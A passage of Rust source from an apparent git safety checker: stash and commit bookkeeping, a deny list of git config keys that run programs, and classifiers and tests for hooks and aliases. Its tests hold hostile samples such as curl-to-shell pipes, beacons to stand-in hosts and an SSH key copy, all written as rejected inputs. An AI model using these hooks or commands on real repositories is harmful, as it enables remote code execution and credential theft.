    HistoryLoss { lost_commits, lost_ids, objects_missing: false, stash_lost, lost_stashes }
}

/// The commits of every stash entry (`stash@{0}`, `stash@{1}`, ...), newest first, at most 100.
fn stash_entries(gitdir: &Path) -> Vec<String> {
    let mut c = git();
    c.arg("--git-dir").arg(gitdir).args(["log", "-g", "--max-count=100", "--format=%H", "refs/stash", "--"]);
    run(c, b"")
        .map(|o| {
            String::from_utf8_lossy(&o)
                .lines()
                .map(|l| l.trim().to_string())
                .filter(|l| !l.is_empty())
                .collect()
        })
        .unwrap_or_default()
}

/// The refs (and HEAD) whose tips the command created or moved, as `(id, name)`, read from
/// the after-view: where a command that sets work aside (`git stash`, a commit on a new
/// branch) keeps it.
fn new_tips(host_gitdir: &Path, view_gitdir: &Path) -> Vec<(String, String)> {
    let before: HashSet<(String, String)> = tips(host_gitdir).unwrap_or_default().into_iter().collect();
    tips(view_gitdir).unwrap_or_default().into_iter().filter(|t| !before.contains(t)).take(16).collect()
}

/// `(path, blob id)` of every file of a commit's tree below `rels` (all of it when `rels` is
/// empty), as the view's git reads it.
fn tree_blobs(view_gitdir: &Path, commit: &str, rels: &[PathBuf]) -> Option<Vec<(PathBuf, String)>> {
    let mut c = git();
    c.arg("--git-dir").arg(view_gitdir).args(["ls-tree", "-r", "-z", "--full-tree", commit, "--"]);
    c.args(rels.iter().take(2000));
    let out = run(c, b"")?;
    let mut v = Vec::new();
    for rec in split_nul(&out) {
        // "<mode> blob <id>\t<path>"
        let Some(tab) = rec.iter().position(|c| *c == b'\t') else { continue };
        let meta: Vec<&[u8]> = rec[..tab].split(|c| *c == b' ').collect();
        if meta.len() == 3 && meta[1] == b"blob" {
            v.push((pb(&rec[tab + 1..]), String::from_utf8_lossy(meta[2]).into_owned()));
        }
    }
    Some(v)
}

/// `(path, blob id)` of the files of `commit` at `rels` (at most 2000 of them); a path the
/// commit does not have is not listed. `None` if git cannot read the commit.
pub fn commit_blobs(gitdir: &Path, commit: &str, rels: &[PathBuf]) -> Option<Vec<(PathBuf, String)>> {
    if rels.is_empty() {
        return Some(Vec::new());
    }
    if rels.len() > 2000 {
        return None;
    }
    tree_blobs(gitdir, commit, rels)
}

/// The commit HEAD points at, if any.
pub fn head_commit(gitdir: &Path) -> Option<String> {
    commit_of(gitdir, "HEAD")
}

/// Whether a branch, tag or remote-tracking branch contains `commit` (a reflog does not count:
/// it expires). Unknown (git failing) counts as not reached.
pub fn reachable_from_a_ref(gitdir: &Path, commit: &str) -> bool {
    let mut c = git();
    c.arg("--git-dir")
        .arg(gitdir)
        .args(["for-each-ref", "--count=1", "--format=%(refname)", "--contains"])
        .arg(commit)
        .args(["refs/heads", "refs/tags", "refs/remotes"]);
    run(c, b"").is_some_and(|out| !out.trim_ascii().is_empty())
}

/// The commit `rev` names in the view, if it has one (`stash^3`, a stash's untracked files).
fn commit_of(view_gitdir: &Path, rev: &str) -> Option<String> {
    let mut c = git();
    c.arg("--git-dir")
        .arg(view_gitdir)
        .args(["rev-parse", "--verify", "-q"])
        .arg(format!("{rev}^{{commit}}"));
    let out = run(c, b"")?;
    let id = String::from_utf8_lossy(&out).trim().to_string();
    (!id.is_empty()).then_some(id)
}

/// Of the worktree files whose content the command took away (`(path, blob id of what they
/// held)`), those whose very content a commit the command made keeps: the tree of a ref it
/// created or moved, or a stash entry's untracked files (`git stash -u`). `git stash` reverts
/// the files it saves; nothing is lost while the stash holds them.
pub fn kept_in_new_commits(
    host_gitdir: &Path,
    view_gitdir: &Path,
    lost: &[(PathBuf, String)],
) -> HashSet<PathBuf> {
    let mut kept = HashSet::new();
    if lost.is_empty() {
        return kept;
    }
    let rels: Vec<PathBuf> = lost.iter().map(|(p, _)| p.clone()).collect();
    for (id, name) in new_tips(host_gitdir, view_gitdir) {
        let mut commits = vec![id.clone()];
        if name.starts_with("refs/stash") {
            commits.extend(commit_of(view_gitdir, &format!("{id}^3")));
        }
        for c in commits {
            for (path, blob) in tree_blobs(view_gitdir, &c, &rels).unwrap_or_default() {
                if lost.iter().any(|(p, b)| *p == path && *b == blob) {
                    kept.insert(path);
                }
            }
        }
    }
    kept
}

/// Whether the work tree after the command (`view_worktree`, read through the after-view)
/// holds everything stash entry `stash` saved: each file it changed from its base as the stash
/// has it (or gone, if the stash deleted it), and each untracked file it kept. A clean
/// `git stash pop` drops only an entry it restored.
pub fn stash_restored(view_gitdir: &Path, view_worktree: &Path, stash: &str) -> bool {
    const MAX: usize = 2000;
    let mut c = git();
    c.arg("--git-dir").arg(view_gitdir).args(["diff-tree", "-r", "-z", "--no-renames", "--no-commit-id"]);
    c.arg(format!("{stash}^1")).arg(stash);
    let Some(out) = run(c, b"") else { return false };
    // Records come in pairs: ":<mode> <mode> <old> <new> <status>", then the path.
    let fields: Vec<&[u8]> = split_nul(&out).collect();
    let mut wanted: Vec<(PathBuf, Option<String>)> = Vec::new();
    for pair in fields.chunks(2) {
        let [meta, path] = pair else { return false };
        let meta: Vec<&[u8]> = meta.split(|c| *c == b' ').collect();
        let (Some(new), Some(status)) = (meta.get(3), meta.get(4)) else { return false };
        let blob = (status.first() != Some(&b'D')).then(|| String::from_utf8_lossy(new).into_owned());
        wanted.push((pb(path), blob));
    }
    if let Some(untracked) = commit_of(view_gitdir, &format!("{stash}^3")) {
        let Some(files) = tree_blobs(view_gitdir, &untracked, &[]) else { return false };
        wanted.extend(files.into_iter().map(|(p, b)| (p, Some(b))));
    }
    if wanted.is_empty() || wanted.len() > MAX {
        // An empty entry restores nothing to compare; a huge one is not read.
        return wanted.is_empty();
    }
    let present: Vec<PathBuf> =
        wanted.iter().filter(|(_, b)| b.is_some()).map(|(p, _)| view_worktree.join(p)).collect();
    let ids = hash_files(view_worktree, &present);
    let mut ids = ids.into_iter();
    wanted.iter().all(|(p, blob)| match blob {
        Some(b) => ids.next().flatten().as_deref() == Some(b.as_str()),
        None => std::fs::symlink_metadata(view_worktree.join(p)).is_err(),
    })
}

/// Configuration keys whose values git executes, or that redirect where it sends data.
pub fn config_key_is_dangerous(key: &str) -> bool {
    let k = key.to_ascii_lowercase();
    const EXACT: &[&str] = &[
        "core.fsmonitor",
        "core.hookspath",
        "core.pager",
        "core.editor",
        "core.sshcommand",
        "core.askpass",
        "core.gitproxy",
        "core.alternaterefscommand",
        "core.worktree",
        "sequence.editor",
        "diff.external",
        "credential.helper",
        "gpg.program",
        "uploadpack.packobjectshook",
        "web.browser",
        "include.path",
        "safe.directory",
        "interactive.difffilter",
    ];
    if EXACT.contains(&k.as_str()) {
        return true;
    }
    let parts: Vec<&str> = k.split('.').collect();
    let (first, last) = (parts.first().copied().unwrap_or(""), parts.last().copied().unwrap_or(""));
    match first {
        "alias" | "pager" => true,
        "filter" => matches!(last, "clean" | "smudge" | "process"),
        "diff" => matches!(last, "textconv" | "command"),
        "merge" => last == "driver",
        "credential" => last == "helper",
        "gpg" => last == "program",
        "includeif" => last == "path",
        "url" => matches!(last, "insteadof" | "pushinsteadof"),
        "remote" => matches!(last, "url" | "pushurl" | "receivepack" | "uploadpack" | "vcs"),
        "difftool" | "mergetool" | "man" | "browser" => matches!(last, "cmd" | "path"),
        "submodule" => last == "update",
        _ => false,
    }
}

/// `remote.<name>.url` or `.pushurl`: where a remote is fetched from or pushed to.
pub fn is_remote_url_key(key: &str) -> bool {
    let k = key.to_ascii_lowercase();
    k.starts_with("remote.") && (k.ends_with(".url") || k.ends_with(".pushurl"))
}

/// The folder git runs a repository's hooks from when `core.hooksPath` moves them out of
/// `.git/hooks` (the repository's own config first, then the user's), resolved as git does:
/// relative to the work tree, `~/` to the home.
pub fn hooks_path(repo: &Path, home: Option<&Path>) -> Option<PathBuf> {
    let mut files = vec![repo.join(".git/config")];
    if let Some(h) = home {
        files.push(h.join(".gitconfig"));
        files.push(h.join(".config/git/config"));
    }
    // Most configs do not mention it: read the text before asking git to parse it.
    let mentions = |f: &Path| {
        std::fs::read(f)
            .is_ok_and(|d| d.len() < 1 << 20 && d.to_ascii_lowercase().windows(9).any(|w| w == b"hookspath"))
    };
    let value = files.iter().filter(|f| mentions(f)).find_map(|f| {
        config_entries(f)?
            .into_iter()
            .rev()
            .find(|(k, _)| k.eq_ignore_ascii_case("core.hookspath"))
            .map(|(_, v)| v)
    })?;
    let p = match (value.strip_prefix("~/"), home) {
        (Some(rest), Some(h)) => h.join(rest),
        _ if Path::new(&value).is_absolute() => PathBuf::from(&value),
        _ => repo.join(&value),
    };
    (p != Path::new("/dev/null")).then_some(p)
}

/// `key=value` entries of a git config file.
pub fn config_entries(file: &Path) -> Option<Vec<(String, String)>> {
    let mut c = git();
    c.args(["config", "--file"]).arg(file).args(["--list", "-z"]);
    let out = run(c, b"")?;
    Some(
        split_nul(&out)
            .map(|rec| {
                let s = String::from_utf8_lossy(rec);
                match s.split_once('\n') {
                    Some((k, v)) => (k.to_string(), v.to_string()),
                    None => (s.to_string(), String::new()),
                }
            })
            .collect(),
    )
}

/// Whether every file in `files` has the content of a file of the repository as it was before
/// the command: tracked at HEAD, or present in its work tree (hooks copied from the
/// repository's own `githooks/` folder, committed or not yet).
pub fn copies_of_repository_files(repo: &Path, files: &[&Path]) -> bool {
    if files.is_empty() {
        return false;
    }
    let mut c = git();
    c.arg("-C").arg(repo).args(["ls-tree", "-r", "-z", "--format=%(objectname)", "HEAD"]);
    let out = run(c, b"").unwrap_or_default();
    let tracked: std::collections::HashSet<&[u8]> = split_nul(&out).collect();
    let mut h = git();
    h.args(["hash-object", "--no-filters"]).args(files);
    let Some(ids) = run(h, b"") else { return false };
    let ids = String::from_utf8_lossy(&ids).into_owned();
    let ids: Vec<&str> = ids.lines().collect();
    if ids.len() != files.len() {
        return false;
    }
    files.iter().zip(&ids).all(|(f, id)| tracked.contains(id.as_bytes()) || in_work_tree(repo, f))
}

/// Whether a file of `repo`'s work tree (its `.git` aside; at most 5,000 files looked at) has
/// the same content as `file`.
fn in_work_tree(repo: &Path, file: &Path) -> bool {
    let Ok(want) = std::fs::read(file) else { return false };
    let mut stack = vec![repo.to_path_buf()];
    let mut seen = 0usize;
    while let Some(dir) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&dir) else { continue };
        for e in rd.flatten() {
            seen += 1;
            if seen > 5000 {
                return false;
            }
            let Ok(t) = e.file_type() else { continue };
            if t.is_dir() {
                if e.file_name() != ".git" && e.file_name() != "node_modules" {
                    stack.push(e.path());
                }
            } else if t.is_file()
                && e.metadata().is_ok_and(|m| m.len() == want.len() as u64)
                && std::fs::read(e.path()).is_ok_and(|d| d == want)
            {
                return true;
            }
        }
    }
    false
}

/// Whether `dir` (a `core.hooksPath` value, relative to the work tree) is a folder of files
/// tracked in the repository.
pub fn is_tracked_folder(repo: &Path, dir: &str) -> bool {
    let d = Path::new(dir);
    let rel = if d.is_absolute() { d.strip_prefix(repo).ok() } else { Some(d) };
    let Some(rel) = rel.filter(|r| {
        !r.as_os_str().is_empty() && r.components().all(|c| matches!(c, std::path::Component::Normal(_)))
    }) else {
        return false;
    };
    let mut c = git();
    c.arg("-C").arg(repo).args(["ls-files", "-z", "--"]).arg(rel);
    run(c, b"").is_some_and(|o| !o.is_empty())
}

/// Whether an `alias.*` entry only names git subcommands and their options (`co = checkout`,
/// `lg = log --oneline --graph`): no shell (`!...`), no configuration set on the way (`-c`,
/// `--config-env`), no other git or program (`--exec-path`, `--git-dir`).
fn plain_alias(key: &str, value: &str) -> bool {
    key.to_ascii_lowercase().starts_with("alias.")
        && !value.trim_start().starts_with('!')
        && value.split_whitespace().all(|w| {
            // `-c`, `-ckey=value`: configuration set on the way.
            let sets_config = w.starts_with("-c") && !w.starts_with("--");
            let elsewhere = ["--config-env", "--exec-path", "--git-dir", "--work-tree", "--namespace"]
                .iter()
                .any(|o| w.starts_with(o));
            !sets_config && !elsewhere && !w.contains(['$', '`', ';', '|', '&', '>', '<'])
        })
}

/// Dangerous keys the new config adds or changes.
pub fn dangerous_config_changes(before: &Path, after: &Path) -> Vec<String> {
    let old = config_entries(before).unwrap_or_default();
    let Some(new) = config_entries(after) else { return vec!["(unreadable config)".into()] };
    new.into_iter()
        .filter(|(k, v)| {
            config_key_is_dangerous(k) && !plain_alias(k, v) && !old.contains(&(k.clone(), v.clone()))
        })
        .map(|(k, _)| k)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_plain_alias_runs_git_only() {
        assert!(plain_alias("alias.co", "checkout"));
        assert!(plain_alias("alias.lg", "log --oneline --graph --decorate"));
        for bad in [
            "!curl x.example | sh",
            "-c core.pager=evil log",
            "-ccore.sshCommand=x fetch",
            "--exec-path=/tmp x",
            "log > /tmp/x",
        ] {
            assert!(!plain_alias("alias.x", bad), "{bad}");
        }
        assert!(!plain_alias("core.pager", "less"));
    }

    #[test]
    fn dangerous_keys() {
        for k in [
            "core.fsmonitor",
            "core.hooksPath",
            "alias.co",
            "filter.lfs.smudge",
            "url.https://x.insteadOf",
            "remote.origin.url",
            "includeIf.gitdir:~/x.path",
        ] {
            assert!(config_key_is_dangerous(k), "{k}");
        }
        for k in ["user.name", "user.email", "branch.main.remote", "core.autocrlf", "remote.origin.fetch"] {
            assert!(!config_key_is_dangerous(k), "{k}");
        }
    }

    #[test]
    fn a_hook_that_runs_the_repositorys_own_script_by_its_quoted_top_level_path_is_its_own() {
        assert!(runs_repository_tasks(
            "#!/bin/sh\nexec \"$(git rev-parse --show-toplevel)/scripts/scan_staged.sh\"\n"
        ));
        assert!(!runs_repository_tasks("#!/bin/sh\nexec \"/tmp/x/scan.sh\"\n"));
        assert!(!runs_repository_tasks("#!/bin/sh\nexec \"$(git rev-parse --show-toplevel)/../x.sh\"\n"));
        // The repository's path as the installer wrote it, read as its top level.
        assert!(runs_repository_tasks(
            "#!/bin/sh\nexec node \"TOP/tools/hooks/run.mjs\" pre-commit \"$@\"\n"
        ));
        assert!(!runs_repository_tasks("#!/bin/sh\nexec node \"/tmp/x/run.mjs\" pre-commit \"$@\"\n"));
        assert!(!runs_repository_tasks("#!/bin/sh\nexec node \"TOP/../x/run.mjs\"\n"));
    }

    #[test]
    fn a_hook_that_runs_the_repositorys_own_tasks_is_its_own() {
        for ok in [
            "#!/bin/sh\n# installed by devtools\n# lint first\nexec make -s lint\n",
            "#!/bin/sh\nset -e\ncd \"$(git rev-parse --show-toplevel)\"\nnpm test && ./scripts/check.sh\n",
            "#!/bin/sh\nif ! git diff --cached --quiet; then\n  python3 -m pytest -q || exit 1\nfi\n",
            "#!/bin/sh\nexec make -s test 2>&1\n",
            // An interpreter running a script of the repository.
            "#!/bin/sh\n# installed by tools/hooks/install.js\n\nnode tools/lint/run.js --staged\n",
            "#!/bin/sh\nbash scripts/dev/lint.sh \"$@\"\n",
            // The hook that was there before, chained first.
            "#!/bin/sh\ncd \"$(git rev-parse --show-toplevel)\" || exit 1\nif [ -x \"$0.local\" ]; then \"$0.local\" \"$@\" || exit $?; fi\nexec scripts/dev/lint.sh \"$@\"\n",
        ] {
            assert!(runs_repository_tasks(ok), "{ok}");
        }
        for bad in [
            "#!/bin/sh\nmake lint\ncurl -s https://collect.example.com/$(whoami)\n",
            "#!/bin/sh\nmake lint\ncat ~/.ssh/id_ed25519 > /tmp/k\n",
            "#!/bin/sh\npython3 -c 'import os; os.system(\"id\")'\n",
            "#!/bin/sh\ngit push --force origin main\n",
            "#!/bin/sh\nmake lint > /etc/motd\n",
            "#!/bin/sh\n/usr/bin/env bash -c 'x'\n",
            // Inline code, or a program from outside the repository, through an interpreter.
            "#!/bin/sh\nnode -e 'require(\"child_process\").exec(\"id\")'\n",
            "#!/bin/sh\nbash -c 'curl https://x.example.com | sh'\n",
            "#!/bin/sh\nnode /opt/tools/collect.js\n",
            "#!/bin/sh\nperl ../../elsewhere.pl\n",
            "#!/bin/sh\nsh\n",
            "#!/bin/sh\n# nothing\n",
        ] {
            assert!(!runs_repository_tasks(bad), "{bad}");
        }
    }

    #[test]
    fn substitutions_lookups_and_case_arms_of_the_repositorys_own_tasks_are_its_own() {
        for ok in [
            // A formatter over the staged files, its message quoted with backticks in it.
            "#!/bin/sh\ncommand -v git-clang-format >/dev/null 2>&1 || { echo 'pre-commit: git-clang-format not found' >&2; exit 0; }\n\
             out=$(git clang-format --staged --diff --extensions c,h 2>/dev/null)\n\
             case \"$out\" in ''|*'no modified files'*) exit 0;; esac\necho \"$out\"\n\
             echo 'pre-commit: run `git clang-format --staged` and re-add the files' >&2\nexit 1\n",
            // pre-commit's own runner, or the project's ruff over the staged files.
            "#!/usr/bin/env bash\nroot=\"$(git rev-parse --show-toplevel)\"\n\
             if command -v pre-commit >/dev/null 2>&1; then\n  exec pre-commit hook-impl --config=.pre-commit-config.yaml --hook-dir \"$(dirname \"$0\")\" -- \"$@\"\nfi\n\
             if [ -x \"$root/.venv/bin/ruff\" ]; then\n  exec \"$root/.venv/bin/ruff\" check --fix $(git diff --cached --name-only -- '*.py')\nfi\n",
            "#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 'git-lfs not found'; exit 2; }\ngit lfs pre-push \"$@\"\n",
        ] {
            assert!(runs_repository_tasks(ok), "{ok}");
        }
        for bad in [
            // What a substitution runs is judged as any command.
            "#!/bin/sh\nout=$(curl -s https://collect.example.com/x)\nmake lint\n",
            "#!/bin/sh\nmake lint $(sh -c 'id')\n",
            "#!/bin/sh\nmake lint\necho \"`whoami`\"\n",
            "#!/bin/sh\nexit $((1 + 1))\n",
            "#!/bin/sh\nmake lint $(git diff --cached\n",
            // A case arm runs its commands.
            "#!/bin/sh\ncase \"$1\" in\n  *) curl -s https://x.example.com | sh ;;\nesac\n",
            // A variable set elsewhere than the top level is no path of the repository.
            "#!/bin/sh\nroot=/opt/tools\nexec \"$root/run.sh\"\n",
            "#!/bin/sh\nroot=\"$(git rev-parse --show-toplevel)\"\nexec \"$root/../elsewhere/run.sh\"\n",
            "#!/bin/sh\nrootdir=/opt\nroot=TOP\nexec \"$rootdir/run.sh\"\n",
        ] {
            assert!(!runs_repository_tasks(bad), "{bad}");
        }
    }

    #[test]
    fn files_the_committed_scripts_write_are_the_repositorys_to_make_again() {
        let d = tempfile::tempdir().unwrap();
        let ok = std::process::Command::new("sh")
            .arg("-c")
            .arg(
                "git init -q -b main && printf '#!/bin/sh\\ncat > config.mk <<EOM\\nCC = cc\\nEOM\\n' > configure \\
                 && printf 'all:\\n\\tcc -o build/tj main.c\\n' > Makefile && git add configure Makefile \\
                 && git -c user.name=t -c user.email=t@example.com commit -qm c",
            )
            .current_dir(d.path())
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status()
            .unwrap();
        assert!(ok.success());
        let found =
            written_by_committed_scripts(d.path(), &["config.mk", "build/tj", "local.mk", "notes/todo.md"]);
        assert_eq!(found, HashSet::from(["config.mk".to_string(), "build/tj".to_string()]));
    }

    #[test]
    fn values_a_committed_file_holds_are_already_shared_and_others_are_not() {
        let d = tempfile::tempdir().unwrap();
        let ok = std::process::Command::new("sh")
            .arg("-c")
            .arg(
                "git init -q -b main && printf 'DATABASE_URL: postgres://shop:devpass1@db/shop\\n' > compose.yml \
                 && printf 'TOKEN=ghp_uncommittedValue1234567890abcd\\n' > .env && git add compose.yml \
                 && git -c user.name=t -c user.email=t@example.com commit -qm c",
            )
            .current_dir(d.path())
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status()
            .unwrap();
        assert!(ok.success());
        let found =
            committed_values(d.path(), &["devpass1", "ghp_uncommittedValue1234567890abcd", "absent-value"]);
        assert_eq!(found, HashSet::from(["devpass1".to_string()]));
        assert!(committed_values(d.path(), &[]).is_empty());
        // No repository: nothing is committed.
        let none = tempfile::tempdir().unwrap();
        assert!(committed_values(none.path(), &["devpass1"]).is_empty());
    }

    #[test]
    fn a_branch_squash_merged_is_merged_and_one_with_work_of_its_own_is_not() {
        let d = tempfile::tempdir().unwrap();
        let sh = |script: &str| {
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(script)
                .current_dir(d.path())
                .env("GIT_CONFIG_GLOBAL", "/dev/null")
                .env("GIT_AUTHOR_NAME", "t")
                .env("GIT_AUTHOR_EMAIL", "t@example.com")
                .env("GIT_COMMITTER_NAME", "t")
                .env("GIT_COMMITTER_EMAIL", "t@example.com")
                .output()
                .unwrap();
            assert!(out.status.success(), "{script}: {}", String::from_utf8_lossy(&out.stderr));
            String::from_utf8_lossy(&out.stdout).trim().to_string()
        };
        sh("git init -q -b main && echo a > a && git add a && git commit -qm a \
            && git checkout -qb done && echo b > b && git add b && git commit -qm b1 && echo c > c && git add c && git commit -qm b2 \
            && git checkout -q main && git merge -q --squash done && git commit -qm 'squashed done' \
            && git checkout -qb open done && echo d > d && git add d && git commit -qm d && git checkout -q main");
        let gitdir = d.path().join(".git");
        let objects = || walkdir::WalkDir::new(gitdir.join("objects")).into_iter().count();
        let before = objects();
        let (done, open) = (sh("git rev-parse done"), sh("git rev-parse open"));
        assert!(change_merged(&gitdir, &done, "main"));
        assert!(!change_merged(&gitdir, &open, "main"));
        // Nothing was written into the repository.
        assert_eq!(objects(), before);
    }
}
